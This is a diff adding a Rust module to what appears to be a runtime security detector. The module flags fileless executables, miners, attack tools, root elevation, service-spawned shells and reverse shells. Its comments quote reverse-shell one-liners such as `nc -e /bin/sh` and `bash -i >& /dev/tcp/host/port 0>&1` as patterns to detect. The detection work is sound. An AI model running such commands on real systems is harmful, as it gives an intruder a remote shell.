@@ -1,0 +1,255 @@
+//! What a new program is, and who started it: new binaries in containers,
+//! fileless executables, miners, attack tools, elevation to root, and shells
+//! that are reverse shells or were spawned by a network service.
+
+use super::tables::{
+    INTERACTIVE_PARENTS, INTERACTIVE_SETUID, JIT_RUNTIMES, MINER_ARGS, MINERS, SHELL_LAUNCHERS, USUAL_SETUID, is_shell,
+    tool_named,
+};
+use super::{Hit, RuleCtx, basename, command_line, parent_name, program_name, succeeded};
+use crate::catalog::FindingType as T;
+use saker_model::{Event, Kind};
+use serde_json::json;
+
+pub(super) fn on_exec(ev: &Event, cx: &mut RuleCtx<'_>, hits: &mut Vec<Hit>) {
+    let Some(x) = ev.exec() else { return };
+    if !succeeded(ev) {
+        return;
+    }
+    let exe = x.executable.as_deref().unwrap_or("");
+    let name = program_name(ev);
+
+    if x.memfd || x.deleted {
+        fileless(ev, exe, name, hits);
+    } else if let Some(c) = &ev.container {
+        new_binary(ev, &c.id, exe, cx, hits);
+    }
+    miner(ev, name, hits);
+    tool(ev, name, cx, hits);
+    elevation(ev, name, hits);
+    if let Some(shell) = shell_name(ev) {
+        shell_spawned_by_service(ev, shell, cx, hits);
+    }
+    socket_shell(ev, cx, hits);
+}
+
+/// A shell started with its standard input and output on an inet socket
+/// that it (before exec) or its parent connected out: `nc -e /bin/sh`,
+/// `socat exec:sh`, a dup2-then-exec payload.
+fn socket_shell(ev: &Event, cx: &mut RuleCtx<'_>, hits: &mut Vec<Hit>) {
+    let (Some(x), Some(p)) = (ev.exec(), &ev.process) else { return };
+    if !(x.stdin_socket && x.stdout_socket) {
+        return;
+    }
+    let Some(peer) = &x.stdin_peer else { return };
+    let (Some(addr), Some(port)) = (&peer.remote_address, peer.remote_port) else { return };
+    let name = program_name(ev);
+    let argv0 = x.argv.first().map(|a| basename(a).trim_start_matches('-')).unwrap_or("");
+    if !(is_shell(name) || is_shell(argv0)) {
+        return;
+    }
+    let target = Some((addr.clone(), port));
+    let mut connected_out = false;
+    let mut serves = false;
+    for uuid in [Some(p.uuid), p.parent_uuid].into_iter().flatten() {
+        if let Some(f) = cx.state.proc(&uuid) {
+            connected_out |= f.connected_to == target;
+            serves |= f.network_service;
+        }
+    }
+    // An accepted connection handed to a shell (inetd-style services) is not
+    // a reverse shell; a connection made outwards is, and so is one we have
+    // no record of when nobody in the pair serves the network.
+    if connected_out || (!serves && interactive(&x.argv)) {
+        hits.push(reverse_shell(addr, port, &peer.family, &x.argv));
+    }
+}
+
+/// An executable that exists only in memory, or no longer on disk.
+fn fileless(ev: &Event, exe: &str, name: &str, hits: &mut Vec<Hit>) {
+    // runc re-executes a sealed memfd copy of itself on every container start
+    // (its CVE-2019-5736 fix); JIT runtimes may do the same.
+    if exe.contains("runc_cloned") || JIT_RUNTIMES.contains(&name) {
+        return;
+    }
+    let Some(x) = ev.exec() else { return };
+    let how = if x.memfd { "memfd" } else { "deleted" };
+    hits.push(
+        Hit::new(T::FilelessExecution, exe)
+            .ctx("executablePath", exe)
+            .ctx("filelessKind", how)
+            .ctx("commandLineExample", command_line(&x.argv)),
+    );
+}
+
+/// A file created or modified in the container after it started, executed.
+fn new_binary(ev: &Event, container: &str, exe: &str, cx: &mut RuleCtx<'_>, hits: &mut Vec<Hit>) {
+    let Some(x) = ev.exec() else { return };
+    let started = cx.state.container_seen(container, ev.time);
+    let mtime = x.executable_mtime;
+    let modified_after_start = mtime.is_some_and(|m| m > started);
+    if !(x.upper_layer || modified_after_start) {
+        return;
+    }
+    let mut hit = Hit::new(T::NewBinaryExecuted, exe).ctx("executablePath", exe);
+    match cx.state.modification(container, exe) {
+        Some(m) => {
+            hit = hit
+                .ctx("modifyingProcess", crate::engine::runtime_process_json(&m.process))
+                .ctx("modifiedAt", m.at.to_rfc3339());
+        }
+        None => {
+            if let Some(m) = mtime {
+                hit = hit.ctx("modifiedAt", m.to_rfc3339());
+            }
+        }
+    }
+    hits.push(hit);
+}
+
+fn miner(ev: &Event, name: &str, hits: &mut Vec<Hit>) {
+    let Some(x) = ev.exec() else { return };
+    let by_name = MINERS.iter().any(|m| m.eq_ignore_ascii_case(name));
+    let by_args = x.argv.iter().any(|a| MINER_ARGS.iter().any(|m| a.contains(m)));
+    if by_name || by_args {
+        let exe = x.executable.as_deref().unwrap_or(name);
+        hits.push(Hit::new(T::CryptoMinerExecuted, exe).ctx("commandLineExample", command_line(&x.argv)));
+    }
+}
+
+/// Attack tools by name (the program, or the script an interpreter runs).
+fn tool(ev: &Event, name: &str, cx: &mut RuleCtx<'_>, hits: &mut Vec<Hit>) {
+    let Some(x) = ev.exec() else { return };
+    let script = x.script.as_deref().map(basename);
+    let Some(t) = tool_named(name).or_else(|| script.and_then(tool_named)) else { return };
+    let severity = if t.offensive {
+        8.0
+    } else {
+        // Dual-use tools are an admin's daily bread on the host: only report
+        // them where they are unusual — in a container, or not started from
+        // a person's shell.
+        let from_person = ev.container.is_none() && INTERACTIVE_PARENTS.contains(&parent_name(ev));
+        if from_person && !parent_is_service(ev, cx) {
+            return;
+        }
+        2.0
+    };
+    hits.push(
+        Hit::new(T::SuspiciousTool, t.name)
+            .severity(severity)
+            .ctx("toolName", t.name)
+            .ctx("toolCategory", t.category)
+            .ctx("commandLineExample", command_line(&x.argv)),
+    );
+}
+
+/// Root gained through a set-user-id binary that is not normally used so.
+fn elevation(ev: &Event, name: &str, hits: &mut Vec<Hit>) {
+    let Some(x) = ev.exec() else { return };
+    let (Some(prev), Some(p)) = (x.previous, &ev.process) else { return };
+    if !x.setuid || prev.euid == 0 || p.euid != 0 {
+        return;
+    }
+    if USUAL_SETUID.contains(&name) {
+        let person = INTERACTIVE_PARENTS.contains(&parent_name(ev));
+        if !INTERACTIVE_SETUID.contains(&name) || person {
+            return;
+        }
+    }
+    let exe = x.executable.as_deref().unwrap_or(name);
+    hits.push(
+        Hit::new(T::ElevationToRoot, exe)
+            .ctx("executablePath", exe)
+            .ctx("previousUid", prev.uid)
+            .ctx("previousEuid", prev.euid),
+    );
+}
+
+/// The shell this exec starts, if it is an interactive one: a shell with no
+/// `-c` command, or with `-i`.
+pub(super) fn shell_name(ev: &Event) -> Option<&str> {
+    let x = ev.exec()?;
+    let argv0 = x.argv.first().map(|a| basename(a)).unwrap_or("");
+    let argv0 = argv0.trim_start_matches('-'); // login shells: "-bash"
+    let name = program_name(ev);
+    let shell = if is_shell(name) && name != "busybox" {
+        name
+    } else if is_shell(argv0) && argv0 != "busybox" {
+        argv0
+    } else {
+        return None;
+    };
+    interactive(&x.argv).then_some(shell)
+}
+
+fn interactive(argv: &[String]) -> bool {
+    for a in argv.iter().skip(1) {
+        match a.strip_prefix('-') {
+            Some(long) if long.starts_with('-') => continue, // --login, --norc
+            Some(short) if short.contains('i') => return true,
+            Some(short) if short.contains('c') => return false, // runs one command
+            Some(_) => continue,
+            None => return false, // runs a script
+        }
+    }
+    true
+}
+
+fn parent_is_service(ev: &Event, cx: &mut RuleCtx<'_>) -> bool {
+    ev.process
+        .as_ref()
+        .and_then(|p| p.parent_uuid)
+        .and_then(|u| cx.state.proc(&u).map(|f| f.network_service))
+        .unwrap_or(false)
+}
+
+/// An interactive shell whose parent serves the network (it listened or
+/// accepted): an exploited service handing out a prompt.
+fn shell_spawned_by_service(ev: &Event, shell: &str, cx: &mut RuleCtx<'_>, hits: &mut Vec<Hit>) {
+    let parent = parent_name(ev);
+    if SHELL_LAUNCHERS.contains(&parent) || is_shell(parent) || !parent_is_service(ev, cx) {
+        return;
+    }
+    let key = format!("{parent}>{shell}");
+    hits.push(Hit::new(T::SuspiciousShellCreated, key).ctx("shellName", shell).ctx("parentName", parent));
+}
+
+/// Network events: remember services and outbound connections; a shell
+/// connecting out and keeping a prompt is a reverse shell
+/// (`bash -i >& /dev/tcp/host/port 0>&1`).
+pub(super) fn on_net(ev: &Event, cx: &mut RuleCtx<'_>, hits: &mut Vec<Hit>) {
+    let (Some(p), Some(n)) = (&ev.process, ev.net()) else { return };
+    if !succeeded(ev) && ev.result != Some(-115) {
+        return;
+    }
+    match ev.kind {
+        Kind::NetListen | Kind::NetAccept => cx.state.proc_mut(p.uuid).network_service = true,
+        Kind::NetConnect if n.family != "unix" => {
+            let (Some(addr), Some(port)) = (&n.remote_address, n.remote_port) else { return };
+            cx.state.proc_mut(p.uuid).connected_to = Some((addr.clone(), port));
+            let name = p.executable.as_deref().map(basename).unwrap_or(&p.name);
+            let argv0 = p.argv.first().map(|a| basename(a).trim_start_matches('-')).unwrap_or("");
+            let shell = (is_shell(name) && name != "busybox") || (is_shell(argv0) && argv0 != "busybox");
+            if shell && n.protocol.as_deref() == Some("tcp") && interactive(&p.argv) {
+                hits.push(reverse_shell(addr, port, &n.family, &p.argv));
+            }
+        }
+        _ => {}
+    }
+}
+
+pub(super) fn reverse_shell(addr: &str, port: u16, family: &str, argv: &[String]) -> Hit {
+    let mut hit = Hit::new(T::ReverseShell, format!("{addr}:{port}"))
+        .ctx("addressFamily", if family == "inet6" { "AF_INET6" } else { "AF_INET" })
+        .ctx("ianaProtocolNumber", 6)
+        .ctx("commandLineExample", command_line(argv));
+    hit.action = Some(json!({
+        "actionType": "NETWORK_CONNECTION",
+        "networkConnectionAction": {
+            "connectionDirection": "OUTBOUND", "protocol": "TCP", "blocked": false,
+            "remoteIpDetails": { if family == "inet6" { "ipAddressV6" } else { "ipAddressV4" }: addr },
+            "remotePortDetails": { "port": port },
+        }
+    }));
+    hit
+}
